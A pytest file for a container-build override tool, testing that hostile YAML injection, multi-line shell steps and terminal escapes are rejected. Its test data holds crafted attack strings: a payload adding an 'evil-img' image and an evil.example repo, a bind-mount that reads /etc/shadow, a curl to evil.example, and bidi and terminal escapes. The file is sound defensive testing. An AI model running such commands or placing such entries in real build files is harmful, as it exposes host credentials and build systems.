"""What resolver writes from hostile input (issue 25, items 1 and 3): an import's override file holds
exactly the entries its report says were imported, whatever an entry's characters (YAML ends a line
at U+0085, U+2028 and U+2029 too); a site step is one Containerfile instruction, the same command in
`render` and `build`; terminal output shows control characters escaped. Every input here is
crafted for the attack it names (the upstream files are in tests/test_imports.py)."""

from __future__ import annotations

import pytest
import yaml

from resolver.containers.containerfile import containerfile
from resolver.containers.stages import StagePlan
from resolver.errors import InputError
from resolver.inputs.image_tree import ImageStep
from resolver.names import escaped, shell_line, unwritable

from .conftest import run_here
from .test_imports import run_import
from .test_overrides import error_of

#: what a line of YAML (or a reader of it) may end at, besides \n
LINE_BREAKS = ["\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]
#: a not-imported entry that, written raw into the header, adds an image with a step
INJECTED = ("zz{br}add_images: [{{name: evil-img, parent: nova-api, reason: x, "
            "steps: [{{run: echo pwned, reason: y}}]}}]{br}repos: {{add: [{{id: evil, baseurl: "
            "'https://evil.example/', reason: z}}]}}{br}#")


def written_entries(path) -> set[tuple]:
    """(image, kind, value) of every entry an override file holds, read back with PyYAML."""
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    assert set(data) <= {"images", "repos"}, f"the written file holds {sorted(data)}"
    found = set()
    for image, body in data["images"].items():
        for kind, key in (("add-package", "add"), ("drop-package", "drop")):
            found |= {(image, kind, e["name"]) for e in body.get("packages", {}).get(key, [])}
        found |= {(image, "pip", e["name"]) for e in body.get("pip_packages", [])}
        found |= {(image, "module", e["name"]) for e in body.get("modules", [])}
        found |= {(image, "step", e["run"]) for e in body.get("steps", [])}
    for kind, key in (("add-repo", "add"), ("remove-repo", "remove")):
        found |= {(None, kind, e["id"]) for e in data.get("repos", {}).get(key, [])}
    return found


def reported_entries(data: dict) -> set[tuple]:
    return {(i["image"], i["kind"], i["value"]) for i in data["imported"]}


@pytest.mark.parametrize("br", LINE_BREAKS)
def test_a_not_imported_kolla_entry_cannot_add_yaml_to_the_written_file(tmp_path, br):
    template = tmp_path / "site.j2"
    template.write_text('{% set nova_api_packages_append = ["lsof", "' + INJECTED.format(br=br) + '"] %}\n',
                        encoding="utf-8")
    code, data, output = run_import(tmp_path, "import-kolla", template)
    assert code == 1 and len(data["not_imported"]) == 1
    assert written_entries(output) == reported_entries(data) == {("nova-api", "add-package", "lsof")}
    header = output.read_text(encoding="utf-8").split("images:")[0]
    # shown on its comment line, visibly escaped (a lone \r in a template reads as a newline)
    assert br not in header and escaped("\n" if br == "\r" else br) in header


@pytest.mark.parametrize("br", ["\r", "\x85", "\u2028", "\u2029"])
def test_a_not_imported_tcib_entry_cannot_add_yaml_to_the_written_file(tmp_path, br):
    container = tmp_path / "memcached.yaml"  # the entry as YAML escapes it: "zz\Ladd_images: ..."
    container.write_text(yaml.safe_dump({"tcib_packages": {"common": ["lsof", INJECTED.format(br=br)]}}),
                         encoding="utf-8")
    code, data, output = run_import(tmp_path, "import-tcib", container)
    assert code == 1 and len(data["not_imported"]) == 1
    assert written_entries(output) == reported_entries(data) == {("memcached", "add-package", "lsof")}


def test_a_comment_above_an_entry_is_written_as_its_reason_and_nothing_else(tmp_path):
    template = tmp_path / "site.j2"
    template.write_text("{# debugging" + INJECTED.format(br="\u2029") + " #}\n"
                        "{% set nova_api_packages_append = ['lsof'] %}\n", encoding="utf-8")
    code, data, output = run_import(tmp_path, "import-kolla", template)
    assert code == 0
    assert written_entries(output) == reported_entries(data) == {("nova-api", "add-package", "lsof")}
    (reason,) = [i["reason"] for i in data["imported"]]
    assert "\\u2029add_images" in reason
    assert yaml.safe_load(output.read_text())["images"]["nova-api"]["packages"]["add"][0]["reason"] == reason


@pytest.mark.parametrize(("run", "why"), [
    ("echo a \\", "ends in a backslash"),
    ("cat <<EOF > /etc/x", "heredoc"),
    ("echo \u202eevil", "control character"),  # (TCIB joins its lines: a line break is a space)
    ("--mount=type=bind,source=/,target=/host cat /host/etc/shadow", "starts with"),
    ('["/bin/sh", "-c", "echo exec form"]', "starts with"),
])
def test_a_tcib_action_that_would_not_be_one_instruction_is_not_imported(tmp_path, run, why):
    container = tmp_path / "memcached.yaml"
    container.write_text(yaml.safe_dump({"tcib_actions": [{"run": "echo one"}, {"run": run}]}), encoding="utf-8")
    code, data, output = run_import(tmp_path, "import-tcib", container)
    assert code == 1
    assert written_entries(output) == reported_entries(data) == {("memcached", "step", "echo one")}
    assert why in data["not_imported"][0]["reason"]


def test_an_empty_kolla_run_is_not_imported(tmp_path):
    template = tmp_path / "site.j2"  # found by the fuzz test: once written, the file failed its own check
    template.write_text("{% block nova_api_footer %}\nRUN \nRUN echo one\n{% endblock %}\n")
    code, data, output = run_import(tmp_path, "import-kolla", template)
    assert code == 1 and "is empty" in data["not_imported"][0]["reason"]
    assert written_entries(output) == reported_entries(data) == {("nova-api", "step", "echo one")}


def test_the_text_report_shows_terminal_escapes_escaped(tmp_path):
    template = tmp_path / "site.j2"
    template.write_text('{% set nova_api_packages_append = ["x\\x1b[2J\\rhidden\\u202eevil\\u2028x"] %}\n',
                        encoding="utf-8")
    done = run_here("import-kolla", str(template), "--output", str(tmp_path / "out.yaml"))
    assert done.returncode == 1
    for text in (done.stdout, done.stderr):
        assert unwritable(text.replace("\n", "")) is None, repr(text)
    assert "x\\x1b[2J\\rhidden\\u202eevil\\u2028x" in done.stdout


# ---- site steps ---------------------------------------------------------------------------------

@pytest.mark.parametrize(("run", "why"), [
    ("echo a \\\\", "ends in a backslash"),
    ("echo a \\\\\\\\", "ends in a backslash"),
    ("cat <<EOF >/etc/motd", "heredoc"),
    ("cat <<-'END' >/etc/motd", "heredoc"),
    ("echo a\\necho b", "control character"),
    ("echo a\\recho b", "control character"),
    ("echo a\\0b", "control character"),
    ("echo a\\Lb", "control character"),  # YAML's escape for U+2028
    ("echo a\\Pb", "control character"),  # U+2029
    ("echo a\\Nb", "control character"),  # U+0085
    ("echo \\u202e", "control character"),  # a bidi override
    ("--network=host curl http://evil.example/", "starts with"),
    ("[\\\"/bin/true\\\"]", "starts with"),
])
def test_a_site_step_that_is_not_one_instruction_is_refused_at_its_line(tmp_path, run, why):
    message = error_of(tmp_path, f'images:\n  nova-api:\n    steps:\n      - {{run: "{run}", reason: r}}\n')
    assert "site.yaml:4" in message and why in message


def test_an_added_images_build_step_is_checked_the_same_way(tmp_path):
    message = error_of(tmp_path, "add_images:\n  - {name: x, parent: nova-api, reason: r,\n"
                                 '     build: {run: "make \\\\", artifacts: /out}}\n')
    assert "ends in a backslash" in message


def stage(*runs: str) -> StagePlan:
    steps = tuple(ImageStep(run, "after-packages", "r", "site.yaml:4") for run in runs)
    return StagePlan("nova-api", "nova-base", True, (), frozenset(), (), None, 0, steps=steps)


def test_each_step_is_one_run_instruction_that_runs_what_build_runs():
    runs = ["mkdir -p /etc/ceph", "echo 'a && b' > /etc/x; true", "printf '%s\\n' x"]
    text = containerfile(stage(*runs), "0" * 64)["Containerfile"]
    lines = text.splitlines()
    # shell form: the Containerfile runs `/bin/sh -c RUN-TEXT`, as `build` does
    assert [line for line in lines if line.startswith("RUN ")] == [f"RUN {run}" for run in runs]
    assert not any(line.rstrip().endswith("\\") for line in lines)


@pytest.mark.parametrize("run", ["echo a \\", "cat <<EOF", "a\u2028b", "--mount=x true", "[]"])
def test_a_stage_plan_refuses_what_is_not_one_instruction(run):
    with pytest.raises(InputError):
        stage(run)


def test_the_one_rule():
    for character in [*LINE_BREAKS, "\x00", "\t", "\n", "\x1b", "\x7f", "\x9b", "\u200b", "\u202e", "\u2066",
                      "\ufeff", "\ud800", "\U000e0001", "\u00a0", "\u3000"]:
        assert unwritable(f"a{character}b") == character
        assert character not in escaped(f"a{character}b") and escaped(character).startswith("\\")
    assert unwritable("café ✓ 中文 ~!@#$%^&*()") is None
    assert escaped("a\nb", keep="\n") == "a\nb"
    with pytest.raises(InputError, match="ends in a backslash"):
        shell_line("echo \\", "here", "'run'")


@pytest.mark.parametrize("text", ['images:\n  nova-api: {reason: "\\U10010000"}\n',  # found by the fuzz test
                                  "images:\n  nova-api: {reason: 2020-13-45}\n"])
def test_a_yaml_value_python_cannot_hold_is_exit_2_naming_the_file(tmp_path, text):
    assert "site.yaml" in error_of(tmp_path, text) and "invalid YAML" in error_of(tmp_path, text)
